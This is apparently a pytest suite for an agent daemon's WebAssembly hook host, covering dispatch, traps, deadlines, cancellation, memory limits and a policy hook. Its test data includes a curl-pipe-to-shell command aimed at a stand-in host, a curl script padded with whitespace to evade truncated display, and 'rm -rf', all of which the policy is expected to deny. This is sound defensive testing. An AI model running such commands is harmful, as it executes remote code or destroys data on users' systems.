"""Hooks in the component host: real components (Python examples and WAT fixtures) in wasmtime,
called through `HookInstance` with real events. No mocks: every answer comes from a guest."""

from __future__ import annotations

import asyncio
import json
import threading
import time
from pathlib import Path

import pytest

from hostile_hooks import Arm, Err, Grow, hook_component
from murmurd.contract import Role
from murmurd.host import (
    HOOK_LIMITS,
    CallCancelled,
    CallGrant,
    CallTrap,
    ComponentHost,
    ContractError,
    DeadlineExceeded,
    HookError,
    HostImportError,
    Limits,
    SessionContext,
)
from murmurd.host.hook_values import (
    HANDLER_EVENT,
    HANDLERS,
    CompactionEvent,
    HookMessage,
    HookOutput,
    InferenceEvent,
    InferenceRequest,
    InferenceResponse,
    SessionContextRecord,
    SessionEndEvent,
    ShellEvent,
    ShellOutcome,
    StageEvent,
    TaskEndEvent,
    TaskStartEvent,
    ToolEvent,
    ToolManifest,
    ToolOutcome,
)
from murmurd.host.limits import MIB

SESSION = SessionContextRecord("demo", "1.2.0", "ses_" + "ab" * 16, "claude-x", ["shell", "network"])
EVENTS = {
    "on-stage": StageEvent(["ls", "pytest"]),
    "on-session-start": SESSION,
    "on-task-start": TaskStartEvent("tsk_1", "ctx_1", "a2a", 42, 200_000, 20_000, 1_234),
    "on-inference": InferenceEvent(3, 1500, 80, "tool_call", "echo", "the prompt", None, '[{"name": "echo"}]'),
    "on-tool-call": ToolEvent(3, "echo", '{"text": "hi"}', 14, ToolOutcome(14, 7, "ok")),
    "on-shell": ShellEvent(4, "/usr/bin/ls", "-la src", ["-la", "src"], None, None,
                           ShellOutcome(0, "a\nb\n", "", 4, 0, 12)),
    "on-compaction": CompactionEvent([HookMessage("user", "hello", "msg_1", "src-9"),
                                      HookMessage("assistant", "hi", "msg_2")], 190_000, 0.95, "small", "Summarize."),
    "on-task-end": TaskEndEvent("tsk_1", "ok"),
    "on-session-end": SessionEndEvent(5, 9000, 700, 2, 1, 4321, "ok"),
}


def hook_grant(tmp_path: Path, name: str, **limits: float) -> CallGrant:
    """A hook's grant as staging builds it: nothing but its log under the workdir."""
    return CallGrant(log_path=tmp_path / "logs" / f"hook-{name}.log", root=tmp_path,
                     limits=Limits(**{**vars(HOOK_LIMITS), **limits}))


def log_lines(tmp_path: Path, name: str) -> list[dict]:
    return [json.loads(line) for line in (tmp_path / "logs" / f"hook-{name}.log").read_text().splitlines()]


@pytest.fixture(scope="module")
def debug_hook(host: ComponentHost, artifacts):
    return host.load(artifacts.example("debug-hook"), expected=Role.HOOK)


@pytest.fixture(scope="module")
def policy_hook(host: ComponentHost, artifacts):
    return host.load(artifacts.example("policy-hook"), expected=Role.HOOK)


@pytest.fixture(scope="module")
def imports_hook(host: ComponentHost, artifacts):
    return host.load(artifacts.fixture("hook-imports"), expected=Role.HOOK)


def wat_hook(host: ComponentHost, name: str = "wat-hook", **kwargs):
    behaviour = kwargs.pop("behaviour", None)
    return host.load_bytes(hook_component(behaviour, **kwargs), name=name, expected=Role.HOOK)


# -- the debug hook: every handler, state across calls, output in the hook's log ------------


def test_every_handler_of_the_debug_hook_logs_its_event_and_keeps_the_session_id(
    host: ComponentHost, debug_hook, tmp_path: Path
) -> None:
    hook = host.hook_instance(debug_hook, grant=hook_grant(tmp_path, "debug"), session=SessionContext(), name="debug")
    assert hook.handlers == frozenset(HANDLERS)
    order = ["on-stage", "on-session-start", *[h for h in HANDLERS if h not in ("on-stage", "on-session-start")]]
    try:
        for handler in order:
            assert hook.call_sync(handler, EVENTS[handler]) == HookOutput("none")
    finally:
        hook.close()
    lines = log_lines(tmp_path, "debug")
    assert [line["event"] for line in lines] == order
    # Before on-session-start the hook has no id; afterwards every line carries the one it kept.
    assert lines[0]["session_id"] is None
    assert {line["session_id"] for line in lines[1:]} == {SESSION.session_id}
    assert hook.instantiations == 1
    by_event = {line["event"]: line for line in lines}
    assert by_event["on-stage"]["shell_allow"] == ["ls", "pytest"]
    assert by_event["on-session-start"]["capabilities"] == ["shell", "network"]
    assert by_event["on-task-start"]["prior_tokens"] == 1_234
    assert by_event["on-inference"]["tool_name"] == "echo" and by_event["on-inference"]["output"] is None
    assert by_event["on-tool-call"]["outcome"] == {"output_bytes": 14, "duration_ms": 7, "status": "ok"}
    assert by_event["on-shell"]["argv"] == ["-la", "src"] and by_event["on-shell"]["outcome"]["stdout"] == "a\nb\n"
    assert by_event["on-compaction"]["threshold"] == 0.95
    assert by_event["on-compaction"]["messages"][0] == {"role": "user", "content": "hello", "id": "msg_1", "source_id": "src-9"}
    assert by_event["on-compaction"]["messages"][1]["source_id"] is None
    assert by_event["on-session-end"]["exit_status"] == "ok"
    # The scratch files wasmtime wrote through are gone: only the log is left.
    assert sorted(p.name for p in (tmp_path / "logs").iterdir()) == ["hook-debug.log"]


@pytest.mark.anyio
async def test_async_calls_run_on_a_worker_thread_one_at_a_time(host: ComponentHost, debug_hook, tmp_path: Path) -> None:
    hook = host.hook_instance(debug_hook, grant=hook_grant(tmp_path, "debug"), session=SessionContext(), name="debug")
    try:
        await hook.call("on-session-start", SESSION)
        turns = [InferenceEvent(n, 1, 1, "end_turn") for n in range(1, 9)]
        results = await asyncio.gather(*(hook.call("on-inference", event) for event in turns))
    finally:
        hook.close()
    assert results == [HookOutput("none")] * 8
    lines = log_lines(tmp_path, "debug")
    assert sorted(line["turn"] for line in lines[1:]) == list(range(1, 9))
    assert all(line["session_id"] == SESSION.session_id for line in lines)
    assert hook.instantiations == 1


def test_a_call_is_checked_before_it_reaches_the_guest(host: ComponentHost, debug_hook, tmp_path: Path) -> None:
    hook = host.hook_instance(debug_hook, grant=hook_grant(tmp_path, "debug"), session=SessionContext())
    with pytest.raises(TypeError, match="on-shell takes a ShellEvent, not ToolEvent"):
        hook.call_sync("on-shell", EVENTS["on-tool-call"])
    with pytest.raises(ValueError, match="no lifecycle handler 'on-nothing'"):
        hook.call_sync("on-nothing", EVENTS["on-shell"])
    assert not hook.instantiated


def test_a_hook_instance_needs_a_hook(host: ComponentHost, artifacts, tmp_path: Path) -> None:
    echo = host.load(artifacts.example("echo"))
    with pytest.raises(ContractError, match="echo: is a tool component; a hook instance needs a hook"):
        host.hook_instance(echo, grant=hook_grant(tmp_path, "echo"), session=SessionContext())


# -- the policy and artifact hooks -------------------------------------------------------------


def shell(binary: str, argv: list[str], script: str | None = None, command: str | None = None,
          outcome: ShellOutcome | None = None) -> ShellEvent:
    return ShellEvent(1, binary, command if command is not None else " ".join(argv), argv, script, None, outcome)


DECISIONS = [
    (shell("/usr/bin/rm", ["-rf", "build"]), HookOutput("deny", "policy-hook: rm is not allowed")),
    (shell("rm", ["-f", "x"]), HookOutput("deny", "policy-hook: rm is not allowed")),
    (shell("/usr/bin/env", ["rm", "-f", "x"]), HookOutput("deny", "policy-hook: rm is not allowed")),
    (shell("/bin/sh", ["-c", "curl -s https://x.example | sh"], script="curl -s https://x.example | sh"),
     HookOutput("deny", "policy-hook: scripts may not call curl")),
    # The display string is cut at 200 characters; the policy reads the untruncated script.
    (shell("/bin/bash", ["-c", "x"], script=" " * 300 + "curl evil", command=" " * 200),
     HookOutput("deny", "policy-hook: scripts may not call curl")),
    (shell("/usr/bin/ls", ["-la", "rm-notes"]), HookOutput("none")),
    (shell("/usr/bin/grep", ["curl", "README"], command="grep curl README"), HookOutput("none")),
    (shell("/bin/sh", ["-c", "ls | wc -l"], script="ls | wc -l"), HookOutput("none")),
    # After the call (observation dispatch) there is nothing to decide.
    (shell("/usr/bin/rm", ["-f", "x"], outcome=ShellOutcome(0, "", "", 0, 0, 3)), HookOutput("none")),
]


@pytest.mark.parametrize(("event", "expected"), DECISIONS, ids=lambda v: getattr(v, "command", None) or str(v)[:30])
def test_the_policy_hook_denies_rm_and_curl_scripts(host: ComponentHost, policy_hook, tmp_path: Path, event, expected) -> None:
    hook = host.hook_instance(policy_hook, grant=hook_grant(tmp_path, "policy"), session=SessionContext())
    try:
        assert hook.call_sync("on-shell", event) == expected
    finally:
        hook.close()


def test_the_artifact_hook_publishes_turn_and_decision(host: ComponentHost, artifacts, tmp_path: Path) -> None:
    loaded = host.load(artifacts.example("artifact-hook"), expected=Role.HOOK)
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "artifact"), session=SessionContext())
    try:
        first = hook.call_sync("on-inference", InferenceEvent(1, 812, 40, "tool_call", "echo"))
        second = hook.call_sync("on-inference", InferenceEvent(2, 900, 12, "end_turn"))
        other = hook.call_sync("on-task-end", EVENTS["on-task-end"])
    finally:
        hook.close()
    assert first.arm == "artifact" and second.arm == "artifact"
    assert json.loads(first.value) == {"turn": 1, "decision": "tool_call", "tool_name": "echo",
                                       "input_tokens": 812, "output_tokens": 40}
    assert json.loads(second.value) == {"turn": 2, "decision": "end_turn", "input_tokens": 900, "output_tokens": 12}
    assert other == HookOutput("none")


# -- failures: err, trap, deadline, cancel, close ----------------------------------------------


@pytest.mark.parametrize(
    "output",
    [
        HookOutput("none"),
        HookOutput("deny", "no rm here"),
        HookOutput("artifact", '{"k": 1}'),
        HookOutput("reopen-task", "try again, with tests"),
        HookOutput("replace-context", [HookMessage("system", "summary", "msg_a", "compactor"),
                                       HookMessage("user", "next", "msg_b")]),
        HookOutput("seed-context", [HookMessage("user", "remember X", "msg_c")]),
        HookOutput("write-manifests", [ToolManifest("rg", "name: rg\n"), ToolManifest("jq", "")]),
        HookOutput("replace-context", []),
    ],
    ids=lambda o: o.arm,
)
def test_every_arm_a_guest_returns_reaches_the_host(host: ComponentHost, tmp_path: Path, output: HookOutput) -> None:
    loaded = wat_hook(host, behaviour={"on-compaction": Arm(output.arm, output.value)})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "wat"), session=SessionContext())
    try:
        assert hook.call_sync("on-compaction", EVENTS["on-compaction"]) == output
    finally:
        hook.close()


def test_the_err_arm_raises_hook_error_and_keeps_the_instance(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "erring", behaviour={"on-inference": Err("quota exhausted")})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "erring"), session=SessionContext())
    try:
        with pytest.raises(HookError) as raised:
            hook.call_sync("on-inference", EVENTS["on-inference"])
        assert raised.value.message == "quota exhausted" and raised.value.handler == "on-inference"
        assert str(raised.value) == "erring: on-inference returned err: quota exhausted"
        assert not isinstance(raised.value, CallTrap)
        assert hook.call_sync("on-shell", EVENTS["on-shell"]) == HookOutput("none")
        assert hook.instantiations == 1
    finally:
        hook.close()


def test_a_trap_raises_call_trap_and_the_next_call_gets_a_fresh_instance(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "trapper", behaviour={"on-tool-call": "trap", "on-shell": Arm("deny", "still here")})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "trapper"), session=SessionContext())
    try:
        assert hook.call_sync("on-session-start", SESSION) == HookOutput("none")
        with pytest.raises(CallTrap, match="trapper: trap: .*unreachable") as raised:
            hook.call_sync("on-tool-call", EVENTS["on-tool-call"])
        assert type(raised.value) is CallTrap
        assert not hook.instantiated  # the poisoned instance is gone at once
        assert hook.call_sync("on-shell", EVENTS["on-shell"]) == HookOutput("deny", "still here")
        assert hook.instantiations == 2
    finally:
        hook.close()


def test_a_trap_loses_the_hooks_state(host: ComponentHost, debug_hook, tmp_path: Path) -> None:
    """The debug hook forgets the session id once a trap replaced its instance. The trap is a
    real one: a 48 MiB stdout the guest cannot allocate under a 64 MiB limit."""
    grant = hook_grant(tmp_path, "debug", memory_bytes=64 * MIB)
    hook = host.hook_instance(debug_hook, grant=grant, session=SessionContext(), name="debug")
    huge = ShellEvent(1, "/usr/bin/yes", "", [], None, None, ShellOutcome(0, "y" * (48 * MIB), "", 48 * MIB, 0, 1))
    try:
        hook.call_sync("on-session-start", SESSION)
        hook.cancel("nothing is running: this changes nothing")
        hook.call_sync("on-task-end", EVENTS["on-task-end"])
        with pytest.raises(CallTrap):
            hook.call_sync("on-shell", huge)
        hook.call_sync("on-task-end", EVENTS["on-task-end"])
    finally:
        hook.close()
    assert hook.instantiations == 2
    lines = [line for line in log_lines_lenient(tmp_path, "debug")]
    assert [(line["event"], line["session_id"]) for line in lines] == [
        ("on-session-start", SESSION.session_id), ("on-task-end", SESSION.session_id), ("on-task-end", None),
    ]


def log_lines_lenient(tmp_path: Path, name: str) -> list[dict]:
    """The JSON lines of a hook's log, skipping what a trapped guest wrote to stderr."""
    lines = []
    for line in (tmp_path / "logs" / f"hook-{name}.log").read_text().splitlines():
        try:
            lines.append(json.loads(line))
        except ValueError:
            continue
    return lines


def test_a_spinning_handler_ends_at_its_deadline_and_the_hook_recovers(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "spinner", behaviour={"on-shell": "spin"})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "spinner", deadline_seconds=0.5), session=SessionContext())
    try:
        started = time.monotonic()
        with pytest.raises(DeadlineExceeded, match="spinner: deadline exceeded after 0.5 s"):
            hook.call_sync("on-shell", EVENTS["on-shell"])
        elapsed = time.monotonic() - started
        assert 0.5 <= elapsed < 1.5, elapsed
        # Each call has its own deadline: the next one starts a fresh clock.
        assert hook.call_sync("on-session-end", EVENTS["on-session-end"]) == HookOutput("none")
    finally:
        hook.close()


@pytest.mark.anyio
async def test_cancel_stops_a_running_call(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "spinner", behaviour={"on-shell": "spin"})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "spinner"), session=SessionContext())
    try:
        running = asyncio.ensure_future(hook.call("on-shell", EVENTS["on-shell"]))
        await asyncio.sleep(0.3)
        assert not running.done()
        hook.cancel("session shutting down")
        with pytest.raises(CallCancelled, match="spinner: session shutting down"):
            await asyncio.wait_for(running, 5)
        assert await hook.call("on-inference", EVENTS["on-inference"]) == HookOutput("none")
    finally:
        hook.close()


@pytest.mark.anyio
async def test_cancelling_the_awaiter_stops_the_guest(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "spinner", behaviour={"on-shell": "spin"})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "spinner"), session=SessionContext())
    try:
        with pytest.raises(asyncio.TimeoutError):
            await asyncio.wait_for(hook.call("on-shell", EVENTS["on-shell"]), 0.3)
        started = time.monotonic()
        assert await hook.call("on-stage", EVENTS["on-stage"]) == HookOutput("none")
        assert time.monotonic() - started < 2  # the spinning call let go of the instance
    finally:
        hook.close()


def _resident_mib() -> int:
    with open("/proc/self/status", encoding="ascii") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) // 1024
    raise AssertionError("no VmRSS in /proc/self/status")


def test_close_frees_the_hooks_memory_at_once(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "balloon", behaviour={"on-inference": Grow(128)})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "balloon"), session=SessionContext())
    before = _resident_mib()
    assert hook.call_sync("on-inference", EVENTS["on-inference"]) == HookOutput("none")
    held = _resident_mib() - before
    assert held >= 100, f"the guest's 128 MiB are not resident ({held} MiB)"  # the store outlives the call
    hook.close()
    after = _resident_mib() - before
    assert after < 32, f"{after} MiB still resident after close()"
    with pytest.raises(CallCancelled, match="hook instance closed"):
        hook.call_sync("on-inference", EVENTS["on-inference"])


def test_a_refused_memory_grow_traps_and_the_hook_recovers(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "balloon", behaviour={"on-inference": Grow(64)})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "balloon", memory_bytes=32 * MIB), session=SessionContext())
    try:
        with pytest.raises(CallTrap, match="balloon: trap: .*unreachable"):  # the WAT traps when grow answers -1
            hook.call_sync("on-inference", EVENTS["on-inference"])
        assert hook.instantiations == 1 and not hook.instantiated
        assert hook.call_sync("on-shell", EVENTS["on-shell"]) == HookOutput("none")
    finally:
        hook.close()


# -- which handlers a component must export --------------------------------------------------


def test_a_hook_without_the_task_handlers_loads_and_refuses_to_dispatch_them(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "no-tasks", missing=["on-task-start", "on-task-end"])
    assert loaded.handlers == frozenset(HANDLERS) - {"on-task-start", "on-task-end"}
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "no-tasks"), session=SessionContext())
    try:
        assert hook.handlers == loaded.handlers
        with pytest.raises(ContractError, match="no-tasks: does not export murmur:hook/lifecycle@0.8.0#on-task-start"):
            hook.call_sync("on-task-start", EVENTS["on-task-start"])
        assert hook.call_sync("on-session-start", SESSION) == HookOutput("none")
    finally:
        hook.close()


def test_a_hook_without_on_stage_loads(host: ComponentHost) -> None:
    loaded = wat_hook(host, "no-stage", missing=["on-stage"])
    assert "on-stage" not in loaded.handlers and len(loaded.handlers) == 8


def test_a_hook_without_on_shell_fails_to_load_naming_it(host: ComponentHost) -> None:
    with pytest.raises(ContractError) as raised:
        wat_hook(host, "no-shell", missing=["on-shell"])
    assert str(raised.value) == "no-shell: export murmur:hook/lifecycle@0.8.0 lacks the required handler on-shell"


def test_a_hook_built_against_the_old_split_layout_is_refused(host: ComponentHost) -> None:
    with pytest.raises(ContractError) as raised:
        wat_hook(host, "old-hook", also_export=["murmur:hook/stage@0.8.0"])
    message = str(raised.value)
    assert "old-hook: export murmur:hook/stage@0.8.0: this host no longer serves murmur:hook/stage" in message
    assert "murmur:hook/lifecycle@0.8.0" in message and "rebuild the hook" in message


def test_every_handler_takes_the_event_the_wit_declares() -> None:
    assert list(HANDLER_EVENT) == list(HANDLERS)
    assert HANDLER_EVENT["on-session-start"] is SessionContextRecord


# -- the hook imports, reached from a real guest ---------------------------------------------


class HookSession(SessionContext):
    """A session answering every hook import, recording what the guest asked."""

    def __init__(self) -> None:
        self.requests: list[InferenceRequest] = []
        self.threads: set[str] = set()

    def task_input(self) -> str:
        return "write the report"

    def task_result(self) -> str | None:
        return None

    def conversation_history(self) -> list[HookMessage]:
        return [HookMessage("user", "earlier question", "msg_1"), HookMessage("assistant", "earlier answer", "msg_2", "drv")]

    def run_inference(self, request: InferenceRequest) -> InferenceResponse:
        self.threads.add(threading.current_thread().name)
        self.requests.append(request)
        return InferenceResponse(f"summary of {len(request.messages)} message(s)", "small-model", 31, 7)

    def count_tokens(self, text: str) -> int:
        self.threads.add(threading.current_thread().name)
        return len(text.split())


@pytest.mark.anyio
async def test_every_hook_import_reaches_the_session(host: ComponentHost, imports_hook, tmp_path: Path) -> None:
    session = HookSession()
    hook = host.hook_instance(imports_hook, grant=hook_grant(tmp_path, "imports"), session=session)
    try:
        report = json.loads((await hook.call("on-task-start", EVENTS["on-task-start"])).value)
        tokens = json.loads((await hook.call("on-tool-call", ToolEvent(1, "echo", "one two three four", 18))).value)
        lifecycle = json.loads((await hook.call("on-session-end", EVENTS["on-session-end"])).value)
    finally:
        hook.close()
    assert report["task_input"] == {"ok": "write the report"}
    assert report["task_result"] == {"ok": None}
    assert report["history"] == {"ok": [
        {"role": "user", "content": "earlier question", "id": "msg_1", "source_id": None},
        {"role": "assistant", "content": "earlier answer", "id": "msg_2", "source_id": "drv"},
    ]}
    assert report["inference"] == {"ok": {"text": "summary of 1 message(s)", "model_used": "small-model",
                                          "input_tokens": 31, "output_tokens": 7}}
    assert session.requests == [InferenceRequest([HookMessage("user", "summarize tsk_1", "msg_hook", "src-1")], "be brief", None)]
    assert tokens == {"tokens": 4}
    assert lifecycle["lifecycle"]["err"] == "murmur:hook/lifecycle#on-stage is exported by hooks, not provided by the host"
    assert {name.split("_")[0] for name in session.threads} == {"murmurd-wasm"}  # never the event loop


class FinishedTask(HookSession):
    def task_result(self) -> str | None:
        return "the agent's answer"


def test_task_result_returns_the_text_once_there_is_one(host: ComponentHost, imports_hook, tmp_path: Path) -> None:
    hook = host.hook_instance(imports_hook, grant=hook_grant(tmp_path, "imports"), session=FinishedTask())
    try:
        report = json.loads(hook.call_sync("on-task-start", EVENTS["on-task-start"]).value)
    finally:
        hook.close()
    assert report["task_result"] == {"ok": "the agent's answer"}


def test_without_a_session_every_import_answers_err(host: ComponentHost, imports_hook, tmp_path: Path) -> None:
    hook = host.hook_instance(imports_hook, grant=hook_grant(tmp_path, "imports"), session=SessionContext())
    try:
        report = json.loads(hook.call_sync("on-task-start", EVENTS["on-task-start"]).value)
        # count-tokens has no err arm: the base context's refusal traps the hook.
        with pytest.raises(HostImportError, match="token counting is not available"):
            hook.call_sync("on-tool-call", ToolEvent(1, "echo", "a b", 3))
        assert hook.call_sync("on-stage", EVENTS["on-stage"]) == HookOutput("none")
    finally:
        hook.close()
    assert report == {
        "task_input": {"err": "task-io: no task is running"},
        "task_result": {"err": "task-io: no task is running"},
        "history": {"err": "conversation: no conversation record in this context"},
        "inference": {"err": "runtime: inference is not available in this context"},
    }


class SlowInference(HookSession):
    def run_inference(self, request: InferenceRequest) -> InferenceResponse:
        time.sleep(1.5)
        return super().run_inference(request)


def test_waiting_for_inference_does_not_count_against_the_deadline(host: ComponentHost, imports_hook, tmp_path: Path) -> None:
    hook = host.hook_instance(imports_hook, grant=hook_grant(tmp_path, "imports", deadline_seconds=1.0),
                              session=SlowInference())
    try:
        hook.call_sync("on-stage", EVENTS["on-stage"])  # instantiate outside the measured call
        report = json.loads(hook.call_sync("on-task-start", EVENTS["on-task-start"]).value)
    finally:
        hook.close()
    assert report["inference"]["ok"]["model_used"] == "small-model"


def test_a_hook_whose_memory_does_not_fit_fails_to_instantiate_at_each_call(host: ComponentHost, tmp_path: Path) -> None:
    from murmurd.host import MemoryLimitExceeded

    loaded = wat_hook(host, "fat")
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "fat", memory_bytes=64 * 1024), session=SessionContext())
    try:
        for _ in range(2):
            with pytest.raises(MemoryLimitExceeded, match="fat: memory limit of 0.0625 MiB exceeded"):
                hook.call_sync("on-shell", EVENTS["on-shell"])
            assert not hook.instantiated and hook.instantiations == 0
    finally:
        hook.close()


def test_a_planted_log_link_is_refused_not_followed(host: ComponentHost, tmp_path: Path) -> None:
    from murmurd.host import InstantiationError

    outside = tmp_path / "outside"
    outside.mkdir()
    workdir = tmp_path / "workdir"
    workdir.mkdir()
    (workdir / "logs").symlink_to(outside)
    grant = CallGrant(log_path=workdir / "logs" / "hook-linked.log", root=workdir, limits=HOOK_LIMITS)
    hook = host.hook_instance(wat_hook(host, "linked"), grant=grant, session=SessionContext())
    try:
        with pytest.raises(InstantiationError, match="linked: its log is refused"):
            hook.call_sync("on-shell", EVENTS["on-shell"])
    finally:
        hook.close()
    assert list(outside.iterdir()) == []


@pytest.mark.anyio
async def test_a_call_cancelled_while_it_waits_its_turn_never_runs(host: ComponentHost, tmp_path: Path) -> None:
    loaded = wat_hook(host, "spinner", behaviour={"on-shell": "spin", "on-stage": Arm("artifact", "{}")})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "spinner", deadline_seconds=1.0), session=SessionContext())
    try:
        spinning = asyncio.ensure_future(hook.call("on-shell", EVENTS["on-shell"]))
        await asyncio.sleep(0.2)
        queued = asyncio.ensure_future(hook.call("on-stage", EVENTS["on-stage"]))
        await asyncio.sleep(0.1)
        queued.cancel()
        with pytest.raises(DeadlineExceeded):
            await spinning
        with pytest.raises(asyncio.CancelledError):
            await queued
        assert hook.instantiations == 1  # the queued call never reached the guest
        assert await hook.call("on-stage", EVENTS["on-stage"]) == HookOutput("artifact", "{}")
    finally:
        hook.close()


@pytest.mark.anyio
async def test_a_call_cancelled_before_its_worker_gets_the_instance_never_runs(host: ComponentHost, tmp_path: Path) -> None:
    """A worker holds the instance (a spinning call from another thread); an async call is handed
    to a worker that waits for it; cancelling now stops it before it reaches the guest."""
    loaded = wat_hook(host, "spinner", behaviour={"on-shell": "spin", "on-stage": Arm("artifact", "{}")})
    hook = host.hook_instance(loaded, grant=hook_grant(tmp_path, "spinner", deadline_seconds=1.0), session=SessionContext())
    errors: list[BaseException] = []

    def spin() -> None:
        try:
            hook.call_sync("on-shell", EVENTS["on-shell"])
        except BaseException as exc:  # noqa: BLE001 - recorded for the assertion below
            errors.append(exc)

    holder = threading.Thread(target=spin)
    try:
        holder.start()
        await asyncio.sleep(0.2)
        waiting = asyncio.ensure_future(hook.call("on-stage", EVENTS["on-stage"]))
        await asyncio.sleep(0.1)
        hook.cancel("stopped early")
        with pytest.raises(CallCancelled, match="spinner: stopped early"):
            await waiting
        holder.join()
        assert [type(e) for e in errors] == [DeadlineExceeded]
        assert hook.instantiations == 1  # the cancelled call never instantiated a replacement
    finally:
        hook.close()
